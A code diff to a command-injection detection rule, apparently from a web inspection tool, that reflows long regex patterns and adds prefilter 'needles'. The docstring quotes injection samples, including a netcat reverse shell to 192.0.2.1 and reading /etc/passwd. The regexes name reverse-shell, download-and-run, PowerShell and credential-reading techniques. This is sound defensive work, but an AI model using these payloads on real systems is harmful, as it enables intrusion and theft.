@@ -1,7 +1,7 @@
 """Command injection: a value that a shell runs.
 
-`8.8.8.8; cat /etc/passwd`, `$(id)`, `| nc 192.0.2.1 4444 -e /bin/sh`, `& ping -n 10 127.0.0.1 &`: where a program hands values to a shell, separators
-end its command and begin another one.
+`8.8.8.8; cat /etc/passwd`, `$(id)`, `| nc 192.0.2.1 4444 -e /bin/sh`, `& ping -n 10 127.0.0.1 &`: where a program hands values to
+a shell, separators end its command and begin another one.
 
 The rule looks for a separator or a substitution followed by a program that attackers call, with what they call it with, for
 shells and downloads in one line, and for the same of PowerShell and cmd. Prose with pipes, semicolons and names of programs
@@ -14,8 +14,7 @@ What it does not protect against: options that are injected into one command (`-
 
 from yett.formats.inspected import Origin
 from yett.model.rule import AttackRule, Payload, Severity
-from yett.rules.inspection.quoting import breaks_out
-from yett.rules.inspection.signature import NAMES, PARAMETERS, TEXTS, Found, Signature
+from yett.rules.inspection.signature import LINE_BREAK, NAMES, PARAMETERS, TEXTS, Found, Signature
 
 RULE = AttackRule(
     id="command-injection",
@@ -59,18 +58,33 @@ RULE = AttackRule(
 
 # What is run: programs that name themselves, and words of the language that need more to count.
 _ALWAYS = (
-    rb"(?:whoami|ifconfig|ipconfig|uname|netstat|systeminfo|tasklist|traceroute|nslookup|hostname|lsb_release|printenv|getent|crontab|"
-    rb"useradd|userdel|passwd|shutdown|reboot|killall|mkfifo|netcat|ncat|socat|telnet|tcpdump|wget|curl|phpinfo|chmod|chown|mysqldump|xterm|tftp|bitsadmin|certutil|"
-    rb"wmic|schtasks|rundll32|regsvr32|mshta|cscript|wscript|powershell(?:\.exe)?|pwsh|cmd(?:\.exe)?\s*/[ck]|/?(?:usr/)?(?:s?bin|local/bin)/\w{2,12}|\.\./\.\./|busybox|lsof|dig\b|arp\b|nmap|sysinfo|regedit|netsh\s\w|reg\s+(?:add|query|delete)\b)"
+    rb"(?:whoami|ifconfig|ipconfig|uname|netstat|systeminfo|tasklist|traceroute|nslookup|hostname"
+    rb"|lsb_release|printenv|getent|crontab|"
+    rb"useradd|userdel|passwd|shutdown|reboot|killall|mkfifo|netcat|ncat|socat|telnet|tcpdump|wget|curl"
+    rb"|phpinfo|chmod|chown|mysqldump|xterm|tftp|bitsadmin|certutil|"
+    rb"wmic|schtasks|rundll32|regsvr32|mshta|cscript|wscript|powershell(?:\.exe)?|pwsh"
+    rb"|cmd(?:\.exe)?\s*/[ck]|/?(?:usr/)?(?:s?bin|local/bin)/\w{2,12}|\.\./\.\./|busybox|lsof|dig\b|arp\b"
+    rb"|nmap|sysinfo|regedit|netsh\s\w|reg\s+(?:add|query|delete)\b)"
 )
 _WITH_ARGUMENT = (
-    rb"(?:(?:cat|tac|head|tail|more|less|nl|tee|cp|mv|rm|rmdir|mkdir|ls|dir|type|find|grep|egrep|sed|awk|cut|strings|xxd|od|base64|touch|echo|printf|file|stat|du|df|ln|tar|zip|gzip|vi|vim|nano|dd|sort|uniq|wc|rev|diff|sh|bash|dash|zsh|ksh|csh|ash|perl|python[23]?|ruby|php|node|lua|gcc|java|nc|ssh|scp|ftp|mail|"
-    rb"sendmail|ping6?|kill|sleep|time|timeout|env|export|set|source|exec|eval|su|sudo|mount|ps|top|net|reg|sc|del|copy|move|ren|attrib|icacls|start|call|fsutil|wevtutil|gpg|openssl|apt(?:-get)?|yum|pip|npm|git|docker|kubectl|service|systemctl|who|w|last|man|date|xargs|nohup|cd|trap|irb|gcc[\d.]*|perf)"
-    rb"(?:\.exe)?(?:[\s+]+|<{1,3}|\$\{?ifs\}?(?:\$\d)?|<|\t|%20)(?:-{1,2}\w|/|~/|\.{1,2}/|\$|['\"`]|\d+\b|[a-z]:\\|\\\\|>|\*|&|\||%\w+%|[\w.\-]{1,64}(?:/|\.(?:txt|php|sh|py|pl|exe|conf|ini|log|html?|jsp|asp|bat|ps1)\b)|(?:localhost|user|users|view|localgroup|share|passwd|shadow|root|alive|http)\b|\d))"
+    rb"(?:(?:cat|tac|head|tail|more|less|nl|tee|cp|mv|rm|rmdir|mkdir|ls|dir|type|find|grep|egrep|sed|awk"
+    rb"|cut|strings|xxd|od|base64|touch|echo|printf|file|stat|du|df|ln|tar|zip|gzip|vi|vim|nano|dd|sort"
+    rb"|uniq|wc|rev|diff|sh|bash|dash|zsh|ksh|csh|ash|perl|python[23]?|ruby|php|node|lua|gcc|java|nc|ssh"
+    rb"|scp|ftp|mail|"
+    rb"sendmail|ping6?|kill|sleep|time|timeout|env|export|set|source|exec|eval|su|sudo|mount|ps|top|net|reg"
+    rb"|sc|del|copy|move|ren|attrib|icacls|start|call|fsutil|wevtutil|gpg|openssl|apt(?:-get)?|yum|pip|npm"
+    rb"|git|docker|kubectl|service|systemctl|who|w|last|man|date|xargs|nohup|cd|trap|irb|gcc[\d.]*|perf)"
+    rb"(?:\.exe)?(?:[\s+]+|<{1,3}|\$\{?ifs\}?(?:\$\d)?|<|\t|%20)(?:-{1,2}\w|/|~/|\.{1,2}/|\$|['\"`]|\d+\b"
+    rb"|[a-z]:\\|\\\\|>|\*|%\w+%|[\w.\-]{1,64}(?:/|\.(?:txt|php|sh|py|pl|exe|conf|ini|log|html?|jsp"
+    rb"|asp|bat|ps1)\b)|(?:localhost|user|users|view|localgroup|share|passwd|shadow|root|alive|http)\b|\d))"
 )
-_BARE = rb"(?:id|ls|dir|pwd|w|who|env|set|ps|date|uptime|ver|cat|sh|bash|whoami|ipconfig|ifconfig|uname|netstat|reboot|hostname|ps\s+-?\w{1,4}|ls\s+-\w{1,5}|cat\s+\S+?|net\s+\w+|history|last|logname|groups)"
+_BARE = (
+    rb"(?:id|ls|dir|pwd|env|ps|uptime|cat|sh|bash|whoami|ipconfig|ifconfig|uname|netstat"
+    rb"|reboot|hostname|ps\s+-?\w{1,4}|ls\s+-\w{1,5}|cat\s+\S+?|net\s+\w+|logname)"
+)
 _END = rb"\s*(?:$|[;|&`)#'\"\n]|%0a|>|<|\\n|/n)"
 _SPLIT = rb"(?:^<|;|\|{1,2}|&{1,2}|`|\$\(|\n|\r|%0a|[<>]\()"
+_BREAK = rb"(?:<|[;|&`\r]|\$\(|" + LINE_BREAK + rb"|%0a|[<>]\()"
 
 _PLACES = (PARAMETERS | NAMES | {Origin.COOKIE, Origin.HEADER, Origin.FILE_NAME}) - {Origin.XML_NAME}
 _LINES = {Origin.QUERY, Origin.PATH, Origin.URL, Origin.HEADER, Origin.COOKIE}
@@ -105,6 +119,8 @@ def _bare(found: Found) -> bool:
     text, piece = found.text, found.text[found.start : found.end].strip()
     if found.value.origin is Origin.HEADER and found.value.name not in (b"user-agent", b"referer") and b";" in piece[:1]:
         return False  # parameters of fields are separated like that
+    if piece[:1] == b"|" == piece[-1:]:
+        return False  # one of several columns
     if piece[:1] == b"<" and piece[-1:] == b">":
         return False  # an element
     if piece[:1] in b"|&" and text.count(b"|") + text.count(b"&") > 3 and b" | " in text:
@@ -124,6 +140,7 @@ SIGNATURES = (
         id="separated",
         pattern=_SPLIT + rb"[\s({'\"+|&$\\]*(?:" + _ALWAYS + rb"(?:[\s;|&`)'\"<>\n$]|$)|" + _WITH_ARGUMENT + rb")",
         reason="a separator of a shell, and a program with arguments",
+        needle=_BREAK + rb"[\s({'\"+|&$\\]*(?:" + _ALWAYS + rb"(?:[\s;|&`)'\"<>\n$]|$)|" + _WITH_ARGUMENT + rb")",
         where=_PLACES,
         confirm=_separated,
     ),
@@ -131,31 +148,62 @@ SIGNATURES = (
         id="bare",
         pattern=_SPLIT + rb"[\s({'\"+]*" + _BARE + _END + rb"|^(?:whoami|id|ls|pwd|uname)[;|&]",
         reason="a separator of a shell, and a program",
+        needle=_BREAK + rb"[\s({'\"+]*" + _BARE + _END + rb"|\b(?:whoami|id|ls|pwd|uname)[;|&]",
         where=_PLACES - {Origin.HEADER} | {Origin.HEADER},
         confirm=_bare,
     ),
     Signature(
         id="substituted",
-        pattern=rb"\$\(\s*(?:" + _ALWAYS + rb"|" + _WITH_ARGUMENT + rb"|" + _BARE + rb"\s*\))|^`\s*(?:" + _BARE + rb"|" + _ALWAYS + rb"[^`]*|" + _WITH_ARGUMENT + rb"[^`]*)\s*`$|\$\{ifs\}|\$ifs\b|\{(?:cat|ls|nc|wget|curl|ping|echo|bash|sh),[^}]+\}",
+        pattern=rb"\$\(\s*(?:"
+        + _ALWAYS
+        + rb"|"
+        + _WITH_ARGUMENT
+        + rb"|"
+        + _BARE
+        + rb"\s*\))|^`\s*(?:"
+        + _BARE
+        + rb"|"
+        + _ALWAYS
+        + rb"[^`]*|"
+        + _WITH_ARGUMENT
+        + rb"[^`]*)\s*`$|\$\{ifs\}|\$ifs\b|\{(?:cat|ls|nc|wget|curl|ping|echo|bash|sh),[^}]+\}",
         reason="a substitution of a shell",
+        needle=rb"\$\(\s*[\w/.]|`\s*[\w/.]|\$\{?ifs\b|\{(?:cat|ls|nc|wget|curl|ping|echo|bash|sh),",
         where=_PLACES,
         confirm=lambda found: len(found.text) <= 300 and not _is_program(found.text),
     ),
     Signature(
         id="shell",
-        pattern=rb"/dev/(?:tcp|udp)/[\w.\-]{1,80}/\d|\bn(?:et)?c(?:at)?(?:\.exe)?\s+[^\n|;]*?\s?-e\s*[/\w]|\bn(?:et)?c(?:at)?\b[^\n|;]+\|\s*/?(?:bin/)?(?:ba)?sh\b|\bmkfifo\s+/tmp|\b(?:ba|da|z|k|c)?sh\s+-i\s*(?:>|2>|<)|\bsocket\.socket\(.*?(?:subprocess|os\.dup2|pty\.spawn)|\bpython[23]?\s+-c\s+['\"]import\s|\b(?:perl|ruby|php|lua|node)\s+-(?:e|r)\s+['\"]|\bphp\s+-r\s|\bfsockopen\s*\(.+?exec|/bin/(?:ba|da|z)?sh\s+(?:-c|-i)\b",
+        pattern=rb"/dev/(?:tcp|udp)/[\w.\-]{1,80}/\d|\bn(?:et)?c(?:at)?(?:\.exe)?\s+[^\n|;]*?\s?-e\s*[/\w]"
+        rb"|\bn(?:et)?c(?:at)?\b[^\n|;]+\|\s*/?(?:bin/)?(?:ba)?sh\b|\bmkfifo\s+/tmp|\b(?:ba|da|z|k"
+        rb"|c)?sh\s+-i\s*(?:>|2>|<)|\bsocket\.socket\(.*?(?:subprocess|os\.dup2|pty\.spawn)"
+        rb"|\bpython[23]?\s+-c\s+['\"]import\s|\b(?:perl|ruby|php|lua|node)\s+-(?:e|r)\s+['\"]|\bphp\s+-r\s"
+        rb"|\bfsockopen\s*\(.+?exec|/bin/(?:ba|da|z)?sh\s+(?:-c|-i)\b",
         reason="a shell for somebody else",
+        needle=rb"/dev/(?:tcp|udp)/|\bn(?:et)?c(?:at)?(?:\.exe)?\s|mkfifo\s+/tmp|sh\s+-[ic]\b|socket\.socket\("
+        rb"|python[23]?\s+-c\s|(?:perl|ruby|php|lua|node)\s+-[er]\s|fsockopen\s*\(",
         confirm=lambda found: len(found.text) <= 1_000 and not _is_program(found.text),
     ),
     Signature(
         id="download",
-        pattern=rb"\b(?:wget|curl)\b[^\n|;&]+(?:\|\s*(?:sudo\s+)?(?:/bin/)?(?:ba|da|z)?sh\b|(?:;|&&)\s*(?:chmod|(?:ba)?sh|\./))|\b(?:wget|curl)\s+(?:-\w+\s+\S*\s*){0,3}(?:https?://)?\d{1,3}(?:\.\d{1,3}){3}|\bcertutil(?:\.exe)?\s.{0,40}-urlcache|\bbitsadmin\s.{0,40}/transfer|\bmshta\s+(?:https?:|javascript:|vbscript:)|\bregsvr32\s.{0,40}/i:",
+        pattern=rb"\b(?:wget|curl)\b[^\n|;&]+(?:\|\s*(?:sudo\s+)?(?:/bin/)?(?:ba|da|z)?sh\b|(?:;|&&)\s*(?:chmod"
+        rb"|(?:ba)?sh|\./))|\b(?:wget|curl)\s+(?:-\w+\s+\S*\s*){0,3}(?:https?://)?\d{1,3}(?:\.\d{1,3}){3}"
+        rb"|\bcertutil(?:\.exe)?\s.{0,40}-urlcache|\bbitsadmin\s.{0,40}/transfer|\bmshta\s+(?:https?:"
+        rb"|javascript:|vbscript:)|\bregsvr32\s.{0,40}/i:",
         reason="a download that is run",
-        confirm=lambda found: len(found.text) <= 400 and (found.start <= 60 or b" " not in found.text[: found.start]) and not _is_program(found.text),
+        confirm=lambda found: (
+            len(found.text) <= 400
+            and (found.start <= 60 or b" " not in found.text[: found.start])
+            and not _is_program(found.text)
+        ),
     ),
     Signature(
         id="powershell",
-        pattern=rb"\bpowershell(?:\.exe)?\s+(?:-\w+\s+)*-(?:e|ec|enc|encodedcommand|nop|noprofile|w|windowstyle|ep|exec|executionpolicy|c|command|noni)\b|\b(?:IEX|Invoke-Expression|Invoke-WebRequest|Invoke-Command|Invoke-Mimikatz|DownloadString|DownloadFile|FromBase64String|Start-Process|New-Object\s+(?:System\.)?Net\.)\b\s*[\s('\"$]|\bcmd(?:\.exe)?\s+/[ck]\s|\bwmic\s+(?:process|os|/node)|\bnet\s+(?:user|localgroup)\s+\w+\s+\S+\s*/add",
+        pattern=rb"\bpowershell(?:\.exe)?\s+(?:-\w+\s+)*-(?:e|ec|enc|encodedcommand|nop|noprofile|w|windowstyle|ep|exec"
+        rb"|executionpolicy|c|command|noni)\b|\b(?:IEX|Invoke-Expression|Invoke-WebRequest|Invoke-Command"
+        rb"|Invoke-Mimikatz|DownloadString|DownloadFile|FromBase64String|Start-Process"
+        rb"|New-Object\s+(?:System\.)?Net\.)\b\s*[\s('\"$]|\bcmd(?:\.exe)?\s+/[ck]\s|\bwmic\s+(?:process|os"
+        rb"|/node)|\bnet\s+(?:user|localgroup)\s+\w+\s+\S+\s*/add",
         reason="a command of PowerShell or cmd",
         confirm=lambda found: len(found.text) <= 600 and not _is_program(found.text),
     ),
@@ -168,27 +216,51 @@ SIGNATURES = (
     ),
     Signature(
         id="disguised",
-        pattern=rb"\b(?:c(?:''|\"\"|\\|\$@)at|ca(?:''|\"\"|\\|\$@)t|w(?:''|\"\"|\\|\$@)(?:hoami|get)|wh(?:''|\"\"|\\|\$@|oa\$@)\S{1,12}|b(?:''|\"\"|\\)ash|l(?:''|\"\"|\\)s|i(?:''|\"\"|\\|\$@)d|n(?:''|\"\"|\\)c|p(?:''|\"\"|\\)ing)\b|/(?:e\?c|et\?|\?tc|e\*c|\?\?\?)/(?:p\S{0,10}|\?{2,})|/\?{3}/(?:\?{2,}|[\w?*]{2,})|\$\{?(?:PATH|HOME|SHELL|PWD)(?::\d+:\d+|%%[^}]{1,20})\}|\$\{@\w|\$\(\s*\(?\s*\d+\s*[+*\-]\s*\d+\s*\)\s*\)|\bexpr\s+\d+\s*[+*\-]\s*\d+\s*[`)]|\brev\s*<<<|\bprintf\s+['\"]\\\\x|\bbase64\s+(?:-d|--decode)\b.{0,40}\|\s*(?:ba)?sh",
+        pattern=rb"\b(?:c(?:''|\"\"|\\|\$@)at|ca(?:''|\"\"|\\|\$@)t|w(?:''|\"\"|\\|\$@)(?:hoami|get)|wh(?:''|\"\"|\\"
+        rb"|\$@|oa\$@)\S{1,12}|b(?:''|\"\"|\\)ash|l(?:''|\"\"|\\)s|i(?:''|\"\"|\\|\$@)d|n(?:''|\"\"|\\)c|p(?:''"
+        rb"|\"\"|\\)ing)\b|/(?:e\?c|et\?|\?tc|e\*c|\?\?\?)/(?:p\S{0,10}|\?{2,})|/\?{3}/(?:\?{2,}|[\w?*]{2,})"
+        rb"|\$\{?(?:PATH|HOME|SHELL|PWD)(?::\d+:\d+|%%[^}]{1,20})\}|\$\{@\w"
+        rb"|\$\(\s*\(?\s*\d+\s*[+*\-]\s*\d+\s*\)\s*\)|\bexpr\s+\d+\s*[+*\-]\s*\d+\s*[`)]|\brev\s*<<<"
+        rb"|\bprintf\s+['\"]\\\\x|\bbase64\s+(?:-d|--decode)\b.{0,40}\|\s*(?:ba)?sh",
         reason="a command spelt to deceive",
         where=_PLACES,
         confirm=lambda found: len(found.text) <= 300 and not _is_program(found.text),
     ),
     Signature(
         id="batch",
-        pattern=rb"\bfor\s+(?:/[dflr]\b.*?)?%{1,2}\S{1,12}\s*in\s*\(|\bif\s+(?:/i\s+)?(?:not\s+)?(?:exist\s+\S+\s+\(|defined\s+\w+\s*(?:\(|set\s)|\"?%[\w:~\-]+%?\"?\s*(?:==|neq|equ)|errorlevel\s+\d|\(?[\"\w%]{1,20}\)?\s*(?:==|geq|leq|neq|equ|gtr|lss)\s*\(?[\"\w%,! ]{1,30}\)?\s+(?:echo|cd|set|\())|\bCMD=\\?\$\\?['\"]|\bcd\s+/?;\s*cd\s+\w|^[^\s]{0,40}[;|&]{1,2}\s*[a-z][\w.\-]{1,30}(?:\s+--?[a-z][\w\-]*|<<<)",
+        pattern=rb"\bfor\s+(?:/[dflr]\b.*?)?%{1,2}\S{1,12}\s*in\s*\(|\bif\s+(?:/i\s+)?(?:not\s+)?(?:exist\s+\S+\s+\("
+        rb"|defined\s+\w+\s*(?:\(|set\s)|\"?%[\w:~\-]+%?\"?\s*(?:==|neq|equ)|errorlevel\s+\d"
+        rb"|\(?[\"\w%]{1,20}\)?\s*(?:==|geq|leq|neq|equ|gtr|lss)\s*\(?[\"\w%,! ]{1,30}\)?\s+(?:echo|cd|set|\())"
+        rb"|\bCMD=\\?\$\\?['\"]|\bcd\s+/?;\s*cd\s+\w"
+        rb"|^[^\s]{0,40}[;|&]{1,2}\s*[a-z][\w.\-]{1,30}(?:\s+--?[a-z][\w\-]*|<<<)",
         reason="a line of a shell",
+        needle=rb"%\S{1,12}\s*in\s*\(|\bif\s+(?:/i\s+)?(?:not\s+)?(?:exist\s|defined\s|\"?%|errorlevel\s"
+        rb"|\(?[\"\w%]{1,20}\)?\s*(?:==|(?:geq|leq|neq|equ|gtr|lss)\s))|\bcmd=\\?\$|\bcd\s+/?;\s*cd\s"
+        rb"|[;|&]\s*[a-z][\w.\-]{1,30}(?:\s+-|<<<)",
         confirm=lambda found: len(found.text) <= 200 and found.start <= 40 and b"\n" not in found.text.strip(),
     ),
     Signature(
         id="file-and-device",
-        pattern=rb"^[\s'\"]*(?:/(?:usr/)?s?bin/(?:cat|ls|id|ping|nc|wget|curl|bash|sh|perl|python|uname|ps|whoami|rm|chmod|echo|tail|head|sleep)|(?:ping6?\s+-[cnil]|cat\s+/(?:etc|proc|var|home|root)|type\s+[a-z]:\\|ls\s+-\w{1,5}\s+/|rm\s+-rf?\s|dir\s+[a-z]:\\|cat\s+\.\./)[\s\w]?)",
+        pattern=rb"^[\s'\"]*(?:/(?:usr/)?s?bin/(?:cat|ls|id|ping|nc|wget|curl|bash|sh|perl|python|uname|ps|whoami|rm"
+        rb"|chmod|echo|tail|head|sleep)|(?:ping6?\s+-[cnil]|cat\s+/(?:etc|proc|var|home|root)|type\s+[a-z]:\\"
+        rb"|ls\s+-\w{1,5}\s+/|rm\s+-rf?\s|dir\s+[a-z]:\\|cat\s+\.\./)[\s\w]?)",
         reason="a command",
         where=_PLACES,
         confirm=lambda found: len(found.text) <= 200 and found.start == 0,
     ),
     Signature(
         id="program-call",
-        pattern=rb"\b(?:system|exec|shell_exec|passthru|popen|proc_open|pcntl_exec)\s*\(\s*['\"(]?\s*(?:\$_(?:GET|POST|REQUEST|COOKIE|SERVER)|/?(?:usr/)?s?bin/|" + _ALWAYS + rb"|(?:cat|ls|dir|ping|echo|nc|sh|bash|id|rm|sleep|pwd)\b[\s'\"])|^[\s;|&'\"]*(?:system|exec|eval|passthru|shell_exec|popen)\s*\(\s*['\"]|\$\{\s*(?:sleep|system|exec|passthru|phpinfo)\s*\(|<\?(?:php|=)\s*[\w$]|\bmove_uploaded_file\s*\(|\$_(?:GET|POST|REQUEST|COOKIE)\s*\[|\beval\s*\(\s*(?:\$_|base64_decode|gzinflate|str_rot13|stripslashes|compile\(|__import__|chr\()|__import__\s*\(\s*['\"](?:os|subprocess|pty|commands|socket)|\bos\.(?:system|popen|execv?p?|spawn\w*)\s*\(\s*['\"]|\bsubprocess\.(?:Popen|call|run|check_output|getoutput)\s*\(\s*\[?['\"](?:/|id|cat|ls|sh|bash|nc|curl|wget|whoami)|\brequire\s*\(\s*['\"]child_process['\"]\s*\)|\bchild_process\.|\bprocess\.mainModule\.\w|\bphpinfo\s*\(\s*\)|\bassert\s*\(\s*['\"$]",
+        pattern=rb"\b(?:system|exec|shell_exec|passthru|popen|proc_open|pcntl_exec)\s*\(\s*['\"(]?\s*(?:\$_(?:GET|POST"
+        rb"|REQUEST|COOKIE|SERVER)|/?(?:usr/)?s?bin/|"
+        + _ALWAYS
+        + rb"|(?:cat|ls|dir|ping|echo|nc|sh|bash|id|rm|sleep|pwd)\b[\s'\"])|^[\s;|&'\"]*(?:system|exec|eval"
+        rb"|passthru|shell_exec|popen)\s*\(\s*['\"]|\$\{\s*(?:sleep|system|exec|passthru|phpinfo)\s*\("
+        rb"|<\?(?:php|=)\s*[\w$]|\bmove_uploaded_file\s*\(|\$_(?:GET|POST|REQUEST|COOKIE)\s*\["
+        rb"|\beval\s*\(\s*(?:\$_|base64_decode|gzinflate|str_rot13|stripslashes|compile\(|__import__|chr\()"
+        rb"|__import__\s*\(\s*['\"](?:os|subprocess|pty|commands|socket)|\bos\.(?:system|popen|execv?p?"
+        rb"|spawn\w*)\s*\(\s*['\"]|\bsubprocess\.(?:Popen|call|run|check_output|getoutput)\s*\(\s*\[?['\"](?:/"
+        rb"|id|cat|ls|sh|bash|nc|curl|wget|whoami)|\brequire\s*\(\s*['\"]child_process['\"]\s*\)"
+        rb"|\bchild_process\.|\bprocess\.mainModule\.\w|\bphpinfo\s*\(\s*\)|\bassert\s*\(\s*['\"$]",
         reason="code that runs a command",
         where=TEXTS,
         confirm=lambda found: len(found.text) <= 1_000 and not _is_program(found.text),
